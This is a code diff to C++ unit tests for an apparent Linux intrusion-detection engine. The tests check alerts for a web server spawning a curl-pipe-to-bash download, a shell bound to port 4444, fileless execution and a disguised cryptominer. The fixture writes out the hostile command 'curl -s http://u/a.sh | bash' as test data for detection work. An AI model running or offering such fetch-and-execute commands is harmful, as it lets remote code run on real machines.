@@ -5,6 +5,7 @@
 #include <gmock/gmock.h>
 #include <gtest/gtest.h>
 
+#include "curl_and_bash.h"
 #include "report/phrases.h"
 #include "report/told.h"
 #include "support/records.h"
@@ -50,11 +51,11 @@ std::vector<std::string> roles(const Alert& alert)
     return out;
 }
 
-const davy_flow kRemote = flow("198.51.100.9", 80);
 const davy_process kFpm = with_uid(process(640, 1, "php-fpm8.2"), 33);
 const davy_process kSh = with_uid(process(811, 640, "sh"), 33);
-const davy_process kCurl = with_uid(process(812, 811, "curl"), 33);
-const davy_process kBash = with_family(with_uid(process(813, 811, "bash"), 33), DAVY_FAMILY_SHELL);
+const davy_process kUsersCurl = with_uid(process(812, 811, "curl"), 33);
+const davy_process kUsersBash =
+    with_family(with_uid(process(813, 811, "bash"), 33), DAVY_FAMILY_SHELL);
 
 // php-fpm starts sh -c 'curl … | bash'.
 void curl_pipe_bash(Story& story)
@@ -63,15 +64,15 @@ void curl_pipe_bash(Story& story)
           << forks(2, 640, 811, "php-fpm8.2")
           << execs(3, kSh, "/bin/sh", {"sh", "-c", "curl -s http://u/a.sh | bash"})
           << forks(4, 811, 812, "sh") << forks(5, 811, 813, "sh")
-          << execs(6, kBash, "/bin/bash", {"bash"}, 0)
-          << execs(7, kCurl, "/usr/bin/curl", {"curl", "-s", "http://u/a.sh"});
+          << execs(6, kUsersBash, "/bin/bash", {"bash"}, 0)
+          << execs(7, kUsersCurl, "/usr/bin/curl", {"curl", "-s", "http://u/a.sh"});
 }
 
 TEST(Engine, TellsTheChainThatWasRefused)
 {
     Story story;
     curl_pipe_bash(story);
-    story << chain(8, DAVY_MODE_BLOCK, kCurl, kBash, kRemote);
+    story << chain(8, DAVY_MODE_BLOCK, kUsersCurl, kUsersBash, kRemote);
     ASSERT_EQ(story.alerts.size(), 1u);
     const Alert& alert = story.alerts[0];
     EXPECT_EQ(alert.sequence, 1u);
@@ -94,7 +95,7 @@ TEST(Engine, TellsTheChainThatWasRefused)
 TEST(Engine, MonitorSaysWhatWouldHaveBeenRefused)
 {
     Story story;
-    story << chain(8, DAVY_MODE_MONITOR, kCurl, kBash, kRemote);
+    story << chain(8, DAVY_MODE_MONITOR, kUsersCurl, kUsersBash, kRemote);
     ASSERT_EQ(story.alerts.size(), 1u);
     EXPECT_EQ(alert_message(story.alerts[0]),
               "curl (812) downloads from 198.51.100.9:80 into bash (813), "
@@ -106,7 +107,7 @@ TEST(Engine, MonitorSaysWhatWouldHaveBeenRefused)
 TEST(Engine, KillSaysWhoIsLeft)
 {
     Story story;
-    auto event = chain(8, DAVY_MODE_KILL, kCurl, kBash, kRemote);
+    auto event = chain(8, DAVY_MODE_KILL, kUsersCurl, kUsersBash, kRemote);
     event.decision.did |= DAVY_DID_KILL_CURRENT;
     event.stages_count = 1;
     event.stages[0] = id(814);
@@ -124,8 +125,8 @@ TEST(Engine, KillSaysWhoIsLeft)
 TEST(Engine, ASinkThatComesLastIsKilledBeforeItsFirstInstruction)
 {
     Story story;
-    auto event = chain(8, DAVY_MODE_BLOCK, kCurl, kBash, kRemote);
-    event.process = kBash;
+    auto event = chain(8, DAVY_MODE_BLOCK, kUsersCurl, kUsersBash, kRemote);
+    event.process = kUsersBash;
     event.facts.source = DAVY_SOURCE_FED;
     judge(event);
     event.decision.did = DAVY_DID_KILL_CURRENT;
@@ -141,8 +142,8 @@ TEST(Engine, AShellThatHasRunDoesNotDieBeforeItsFirstInstruction)
 {
     Story story;
     for (std::uint8_t mode : {DAVY_MODE_BLOCK, DAVY_MODE_MONITOR}) {
-        auto event = chain(8, mode, kCurl, kBash, kRemote);
-        event.process = kBash;
+        auto event = chain(8, mode, kUsersCurl, kUsersBash, kRemote);
+        event.process = kUsersBash;
         event.facts.source = DAVY_SOURCE_FED;
         judge(event);
         event.decision.did = mode == DAVY_MODE_BLOCK ? DAVY_DID_KILL_CURRENT : 0;
@@ -157,7 +158,7 @@ TEST(Engine, ANameLikeAnErrorStaysWhole)
 {
     Story story;
     davy_process odd = process(815, 811, "x (EPERM, y)");
-    auto event = chain(8, DAVY_MODE_BLOCK, odd, kBash, kRemote);
+    auto event = chain(8, DAVY_MODE_BLOCK, odd, kUsersBash, kRemote);
     event.decision.did = DAVY_DID_KILL_CURRENT;
     story << event;
     EXPECT_EQ(alert_message(story.alerts.at(0)),
@@ -169,7 +170,7 @@ TEST(Engine, ANameLikeAnErrorStaysWhole)
 TEST(Engine, AShellOnASocketIsAnotherRule)
 {
     Story story;
-    auto event = chain(8, DAVY_MODE_BLOCK, kBash, kBash, flow("2001:db8::1", 4444));
+    auto event = chain(8, DAVY_MODE_BLOCK, kUsersBash, kUsersBash, flow("2001:db8::1", 4444));
     event.source = {};
     event.facts.source = DAVY_SOURCE_SOCKET;
     event.facts.hops = 0;
@@ -186,12 +187,12 @@ TEST(Engine, AShellOnASocketIsAnotherRule)
 TEST(Engine, StaysSilentWhereTheVerdictIsAllow)
 {
     Story story;
-    auto event = chain(8, DAVY_MODE_BLOCK, kCurl, kBash, kRemote);
+    auto event = chain(8, DAVY_MODE_BLOCK, kUsersCurl, kUsersBash, kRemote);
     event.facts.exempt = 1;
     event.facts.row = 0;
     judge(event);
     story << event;
-    auto data = chain(9, DAVY_MODE_BLOCK, kCurl, kBash, kRemote);
+    auto data = chain(9, DAVY_MODE_BLOCK, kUsersCurl, kUsersBash, kRemote);
     data.facts.reads_code = 0;
     judge(data);
     story << data;
@@ -203,8 +204,8 @@ TEST(Engine, FilelessExecNamesTheImageAndItsProcess)
 {
     Story story;
     davy_image image = memfd(77, "x");
-    story << execs(1, kBash, "/bin/bash", {"bash"})
-          << fileless(2, DAVY_MODE_BLOCK, with_image(kBash, image), image, "/proc/self/fd/3");
+    story << execs(1, kUsersBash, "/bin/bash", {"bash"})
+          << fileless(2, DAVY_MODE_BLOCK, with_image(kUsersBash, image), image, "/proc/self/fd/3");
     ASSERT_EQ(story.alerts.size(), 1u);
     const Alert& alert = story.alerts[0];
     EXPECT_EQ(alert_code(alert), "EXE-001");
@@ -223,17 +224,17 @@ TEST(Engine, AFilelessProgramThatWasFetchedIsCritical)
 {
     Story story;
     davy_image image = memfd(77, "x");
-    story << connects(7, kBash, kRemote)
-          << fileless(2, DAVY_MODE_MONITOR, with_image(kBash, image), image, "");
+    story << connects(7, kUsersBash, kRemote)
+          << fileless(2, DAVY_MODE_MONITOR, with_image(kUsersBash, image), image, "");
     EXPECT_EQ(story.alerts.at(0).severity, 5);
 }
 
 TEST(Engine, ARefusedFilelessExecLeavesTheProcessWhatItWas)
 {
     Story story;
-    auto event = fileless(2, DAVY_MODE_BLOCK, kBash, memfd(77, "x"), "/dev/fd/3");
+    auto event = fileless(2, DAVY_MODE_BLOCK, kUsersBash, memfd(77, "x"), "/dev/fd/3");
     event.decision.did = DAVY_DID_REFUSE;
-    story << execs(1, kBash, "/bin/bash", {"bash"}) << event;
+    story << execs(1, kUsersBash, "/bin/bash", {"bash"}) << event;
     EXPECT_EQ(alert_message(story.alerts.at(0)),
               "bash (813) tried to start memfd:x, which has no file on any disk; exec refused");
     EXPECT_EQ(story.alerts.at(0).parties.at(0).process.image_path, "/bin/bash");
@@ -242,14 +243,14 @@ TEST(Engine, ARefusedFilelessExecLeavesTheProcessWhatItWas)
 TEST(Engine, ADeniedExecNamesTheFileAndTheBackend)
 {
     Story story;
-    davy_image image = kBash.image;
+    davy_image image = kUsersBash.image;
     image.flags |= DAVY_IMAGE_DENIED;
-    auto event = fileless(2, DAVY_MODE_BLOCK, kBash, image, "/opt/miner");
+    auto event = fileless(2, DAVY_MODE_BLOCK, kUsersBash, image, "/opt/miner");
     event.header.verdict = DAVY_DENY;
     event.decision.rule = DAVY_RULE_IMAGE_DENIED;
     event.decision.did = DAVY_DID_REFUSE;
     event.decision.backend = DAVY_BACKEND_LSM;
-    story << execs(1, kBash, "/bin/bash", {"bash"}) << event;
+    story << execs(1, kUsersBash, "/bin/bash", {"bash"}) << event;
     const Alert& alert = story.alerts.at(0);
     EXPECT_EQ(alert_code(alert), "EXE-006");
     EXPECT_EQ(alert_message(alert),
@@ -258,17 +259,17 @@ TEST(Engine, ADeniedExecNamesTheFileAndTheBackend)
     EXPECT_EQ(alert_action(alert), "exec refused (EPERM, by lsm)");
 }
 
-const davy_process kMiner = with_uid(process(900, 813, "kdevtmpfsi"), 33);
+const davy_process kUsersMiner = with_uid(process(900, 813, "kdevtmpfsi"), 33);
 
 TEST(Engine, RemovalNamesEveryProcessThatRunsTheFile)
 {
     Story story;
     davy_process rm = process(950, 813, "rm");
-    story << execs(1, kBash, "/bin/bash", {"bash"}) << forks(2, 813, 900, "bash")
-          << execs(3, kMiner, "/tmp/.x/kdevtmpfsi", {"[kworker/0:1]"})
+    story << execs(1, kUsersBash, "/bin/bash", {"bash"}) << forks(2, 813, 900, "bash")
+          << execs(3, kUsersMiner, "/tmp/.x/kdevtmpfsi", {"[kworker/0:1]"})
           << forks(4, 900, 902, "kdevtmpfsi") << forks(4, 900, 901, "kdevtmpfsi")
           << forks(4, 900, 903, "kdevtmpfsi") << exits(5, 903, "kdevtmpfsi")
-          << removed(6, DAVY_MODE_KILL, rm, id(900), gone(kMiner.image), "kdevtmpfsi");
+          << removed(6, DAVY_MODE_KILL, rm, id(900), gone(kUsersMiner.image), "kdevtmpfsi");
     ASSERT_EQ(story.alerts.size(), 1u);
     const Alert& alert = story.alerts[0];
     EXPECT_EQ(alert_code(alert), "EXE-002");
@@ -285,9 +286,10 @@ TEST(Engine, RemovalNamesEveryProcessThatRunsTheFile)
 TEST(Engine, SelfRemovalHasOneParty)
 {
     Story story;
-    davy_image image = gone(kMiner.image);
-    story << execs(1, kMiner, "./m", {"m"})
-          << removed(2, DAVY_MODE_MONITOR, with_image(kMiner, image), kMiner.id, image, "m");
+    davy_image image = gone(kUsersMiner.image);
+    story << execs(1, kUsersMiner, "./m", {"m"})
+          << removed(2, DAVY_MODE_MONITOR, with_image(kUsersMiner, image), kUsersMiner.id, image,
+                     "m");
     EXPECT_THAT(roles(story.alerts.at(0)), ElementsAre("victim 900"));
     EXPECT_EQ(alert_message(story.alerts[0]),
               "kdevtmpfsi (900) removed its own executable, m, and runs "
@@ -316,17 +318,17 @@ TEST(Engine, AStrangersRemovalElsewhereIsMedium)
 TEST(Engine, StaysSilentWhenUpgradeReplacesRunningBinary)
 {
     Story story;
-    story << removed(2, DAVY_MODE_BLOCK, process(60, 1, "dpkg"), kMiner.id,
-                     gone(kMiner.image, DAVY_IMAGE_REPLACED), "/usr/sbin/x")
-          << swept(3, with_image(kMiner, gone(kMiner.image, DAVY_IMAGE_REPLACED)));
+    story << removed(2, DAVY_MODE_BLOCK, process(60, 1, "dpkg"), kUsersMiner.id,
+                     gone(kUsersMiner.image, DAVY_IMAGE_REPLACED), "/usr/sbin/x")
+          << swept(3, with_image(kUsersMiner, gone(kUsersMiner.image, DAVY_IMAGE_REPLACED)));
     EXPECT_TRUE(story.alerts.empty());
 }
 
 TEST(Engine, TalkingWithoutAnExecutable)
 {
     Story story;
-    story << execs(1, kMiner, "/tmp/kdevtmpfsi", {"x"})
-          << talking(2, DAVY_MODE_BLOCK, with_image(kMiner, gone(kMiner.image)),
+    story << execs(1, kUsersMiner, "/tmp/kdevtmpfsi", {"x"})
+          << talking(2, DAVY_MODE_BLOCK, with_image(kUsersMiner, gone(kUsersMiner.image)),
                      flow("192.0.2.77", 3333));
     EXPECT_EQ(alert_message(story.alerts.at(0)),
               "kdevtmpfsi (900), whose executable /tmp/kdevtmpfsi is gone, connects to "
@@ -337,7 +339,7 @@ TEST(Engine, TalkingWithoutAnExecutable)
 TEST(Engine, ASweepReportsEachProcessOnce)
 {
     Story story;
-    davy_process found = with_image(kMiner, gone(kMiner.image));
+    davy_process found = with_image(kUsersMiner, gone(kUsersMiner.image));
     story << swept(1, found) << swept(2, found) << swept(200 * kSecond, found);
     ASSERT_EQ(story.alerts.size(), 1u);
     EXPECT_EQ(alert_code(story.alerts[0]), "EXE-004");
@@ -353,26 +355,26 @@ TEST(Engine, ASweepTakesWhatWentAwayLaterAndNothingThatWasGoneBefore)
     Policy policy = Story::monitor();
     policy.image = Mode::kill;
     Story before(policy);
-    before << swept(1, with_image(kMiner, gone(kMiner.image, DAVY_IMAGE_BEFORE_US)));
+    before << swept(1, with_image(kUsersMiner, gone(kUsersMiner.image, DAVY_IMAGE_BEFORE_US)));
     EXPECT_EQ(before.alerts.at(0).verdict, static_cast<std::uint32_t>(DAVY_ALERT));
     EXPECT_TRUE(before.alerts[0].to_kill.empty());
     EXPECT_FALSE(before.alerts[0].would_block);
 
     // Nor what another user took away, in whatever mode it is told.
     Story taken;
-    taken << swept(1, with_image(kMiner, gone(kMiner.image, DAVY_IMAGE_TAKEN)));
+    taken << swept(1, with_image(kUsersMiner, gone(kUsersMiner.image, DAVY_IMAGE_TAKEN)));
     EXPECT_EQ(taken.alerts.at(0).verdict, static_cast<std::uint32_t>(DAVY_ALERT));
     EXPECT_FALSE(taken.alerts[0].would_block);
 
     Story later(policy);
-    later << swept(1, with_image(kMiner, gone(kMiner.image)));
+    later << swept(1, with_image(kUsersMiner, gone(kUsersMiner.image)));
     EXPECT_EQ(later.alerts.at(0).verdict, static_cast<std::uint32_t>(DAVY_KILL));
     ASSERT_EQ(later.alerts[0].to_kill.size(), 1u);
     EXPECT_EQ(later.alerts[0].to_kill[0].tgid, 900u);
 
     policy.image = Mode::off;
     Story off(policy);
-    off << swept(1, with_image(kMiner, gone(kMiner.image)));
+    off << swept(1, with_image(kUsersMiner, gone(kUsersMiner.image)));
     EXPECT_TRUE(off.alerts.empty());
 }
 
@@ -380,7 +382,8 @@ TEST(Engine, ASweepTakesWhatWentAwayLaterAndNothingThatWasGoneBefore)
 TEST(Engine, ASweepTellsHowBusyItIs)
 {
     Story story;
-    davy_event_process found = swept(100 * kSecond, with_image(kMiner, gone(kMiner.image)));
+    davy_event_process found =
+        swept(100 * kSecond, with_image(kUsersMiner, gone(kUsersMiner.image)));
     found.process.id.start_ns = 90 * kSecond;
     found.state.cpu_ns = 69 * kSecond + 700'000'000;
     found.state.flags = DAVY_STATE_NET_FED;
@@ -396,12 +399,13 @@ TEST(Engine, ASweepTellsHowBusyItIs)
 TEST(Engine, AProcessWithoutItsFileStartsAProgram)
 {
     Story story;
-    davy_event_image event = talking(2, DAVY_MODE_KILL, with_image(kMiner, gone(kMiner.image)), {});
+    davy_event_image event =
+        talking(2, DAVY_MODE_KILL, with_image(kUsersMiner, gone(kUsersMiner.image)), {});
     event.decision.rule = DAVY_RULE_IMAGE_STARTING;
     event.decision.did = 0;
     event.victim = id(813);
     std::snprintf(event.filename, sizeof event.filename, "/bin/sh");
-    story << execs(1, kMiner, "/tmp/kdevtmpfsi", {"x"}) << event;
+    story << execs(1, kUsersMiner, "/tmp/kdevtmpfsi", {"x"}) << event;
     const Alert& alert = story.alerts.at(0);
     EXPECT_EQ(alert_code(alert), "EXE-005");
     EXPECT_EQ(alert_message(alert),
@@ -415,24 +419,26 @@ TEST(Engine, AProcessWithoutItsFileStartsAProgram)
 TEST(Engine, ASweepOfHealthyOrExemptProcessesIsSilent)
 {
     Story story;
-    story << swept(1, kMiner) << swept(2, with_image(kBash, gone(kBash.image, DAVY_IMAGE_EXEMPT)))
-          << swept(3, with_image(kCurl, davy_image{})); // unreadable: nlink 0 means nothing
+    story << swept(1, kUsersMiner)
+          << swept(2, with_image(kUsersBash, gone(kUsersBash.image, DAVY_IMAGE_EXEMPT)))
+          << swept(3, with_image(kUsersCurl, davy_image{})); // unreadable: nlink 0 means nothing
     EXPECT_TRUE(story.alerts.empty());
 }
 
 TEST(Engine, ASweepDoesNotRepeatWhatAnAlertSaid)
 {
     Story removal;
-    davy_process twin = with_image(process(901, 813, "twin"), kMiner.image);
-    removal << swept(1, kMiner) << swept(1, twin)
-            << removed(2, DAVY_MODE_MONITOR, kBash, kMiner.id, gone(kMiner.image), "/tmp/m")
-            << swept(3, with_image(kMiner, gone(kMiner.image)))
-            << swept(3, with_image(twin, gone(kMiner.image)));
+    davy_process twin = with_image(process(901, 813, "twin"), kUsersMiner.image);
+    removal << swept(1, kUsersMiner) << swept(1, twin)
+            << removed(2, DAVY_MODE_MONITOR, kUsersBash, kUsersMiner.id, gone(kUsersMiner.image),
+                       "/tmp/m")
+            << swept(3, with_image(kUsersMiner, gone(kUsersMiner.image)))
+            << swept(3, with_image(twin, gone(kUsersMiner.image)));
     EXPECT_EQ(removal.alerts.size(), 1u);
 
     Story exec;
     davy_image image = memfd(77, "x");
-    davy_process runner = with_image(kBash, image);
+    davy_process runner = with_image(kUsersBash, image);
     exec << fileless(1, DAVY_MODE_MONITOR, runner, image, "/dev/fd/3")
          << execs(1, runner, "/dev/fd/3", {"x"}) // the telemetry ring is read later
          << swept(2, runner);
@@ -447,8 +453,8 @@ constexpr std::string_view kLogin =
 TEST(Engine, StratumNamesWalletAndAgent)
 {
     Story story;
-    story << execs(1, kMiner, "/tmp/m", {"m"})
-          << stratum(2, DAVY_MODE_BLOCK, kMiner, flow("192.0.2.77", 3333), kLogin);
+    story << execs(1, kUsersMiner, "/tmp/m", {"m"})
+          << stratum(2, DAVY_MODE_BLOCK, kUsersMiner, flow("192.0.2.77", 3333), kLogin);
     ASSERT_EQ(story.alerts.size(), 1u);
     const Alert& alert = story.alerts[0];
     EXPECT_EQ(alert_code(alert), "MINE-001");
@@ -465,7 +471,7 @@ TEST(Engine, StratumNamesWalletAndAgent)
 TEST(Engine, StratumOfAnUnknownOwner)
 {
     Story story;
-    auto event = stratum(2, DAVY_MODE_BLOCK, kMiner, flow("192.0.2.77", 3333),
+    auto event = stratum(2, DAVY_MODE_BLOCK, kUsersMiner, flow("192.0.2.77", 3333),
                          R"({"method":"mining.notify","params":[]})", DAVY_TO_CLIENT);
     event.owner = {};
     event.facts.midstream = 1;
@@ -487,9 +493,10 @@ TEST(Engine, PoolsCarryTheirRowsNote)
     policy.pool_addresses[0].note = "supportxmr";
     policy.pool_ports.push_back({80, "the usual one"});
     Story story(policy);
-    story << pool(1, DAVY_MODE_MONITOR, kMiner, kRemote, DAVY_POOL_ADDRESS, 0)
-          << pool(1, DAVY_MODE_MONITOR, kMiner, kRemote, DAVY_POOL_PORT, 0)
-          << pool(1, DAVY_MODE_MONITOR, kCurl, kRemote, DAVY_POOL_ADDRESS, 5); // of another policy
+    story << pool(1, DAVY_MODE_MONITOR, kUsersMiner, kRemote, DAVY_POOL_ADDRESS, 0)
+          << pool(1, DAVY_MODE_MONITOR, kUsersMiner, kRemote, DAVY_POOL_PORT, 0)
+          << pool(1, DAVY_MODE_MONITOR, kUsersCurl, kRemote, DAVY_POOL_ADDRESS,
+                  5); // of another policy
     ASSERT_EQ(story.alerts.size(), 3u);
     EXPECT_EQ(story.alerts[0].policy_note, "supportxmr");
     EXPECT_EQ(story.alerts[0].severity, 4);
@@ -503,7 +510,7 @@ TEST(Engine, RepeatsAreCountedNotReported)
 {
     Story story;
     for (std::uint64_t t = 1; t <= 80; t += 25)
-        story << pool(t * kSecond, DAVY_MODE_BLOCK, kMiner, kRemote, DAVY_POOL_ADDRESS, 0);
+        story << pool(t * kSecond, DAVY_MODE_BLOCK, kUsersMiner, kRemote, DAVY_POOL_ADDRESS, 0);
     ASSERT_EQ(story.alerts.size(), 2u);
     EXPECT_EQ(story.alerts[0].repeats, 0u);
     EXPECT_EQ(story.alerts[1].repeats, 2u);
@@ -515,9 +522,9 @@ TEST(Engine, OneLineageIsOneIncidentAndAStrangersIsAnother)
 {
     Story story;
     curl_pipe_bash(story);
-    story << chain(8, DAVY_MODE_MONITOR, kCurl, kBash, kRemote) << forks(9, 813, 899, "bash")
-          << forks(10, 899, 900, "bash") << exits(11, 899, "bash");
-    davy_process orphan = kMiner;
+    story << chain(8, DAVY_MODE_MONITOR, kUsersCurl, kUsersBash, kRemote)
+          << forks(9, 813, 899, "bash") << forks(10, 899, 900, "bash") << exits(11, 899, "bash");
+    davy_process orphan = kUsersMiner;
     orphan.parent = id(1); // `& disown`
     story << execs(12, orphan, "/tmp/m", {"m"})
           << pool(13, DAVY_MODE_MONITOR, orphan, kRemote, DAVY_POOL_ADDRESS, 0)
@@ -533,9 +540,9 @@ TEST(Engine, Counts)
 {
     Story story;
     curl_pipe_bash(story);
-    auto liar = chain(8, DAVY_MODE_MONITOR, kCurl, kBash, kRemote);
+    auto liar = chain(8, DAVY_MODE_MONITOR, kUsersCurl, kUsersBash, kRemote);
     liar.header.verdict = DAVY_KILL;
-    story << connects(7, kCurl, kRemote) << liar << exits(9, 812, "curl")
+    story << connects(7, kUsersCurl, kRemote) << liar << exits(9, 812, "curl")
           << loss(10, DAVY_LOSS_WALK, 3) << loss(11, DAVY_LOSS_WALK, 5)
           << outcome(12, 813, DAVY_RULE_CHAIN_PIPE, 1);
     const EngineCounts& counts = story.engine.counts();
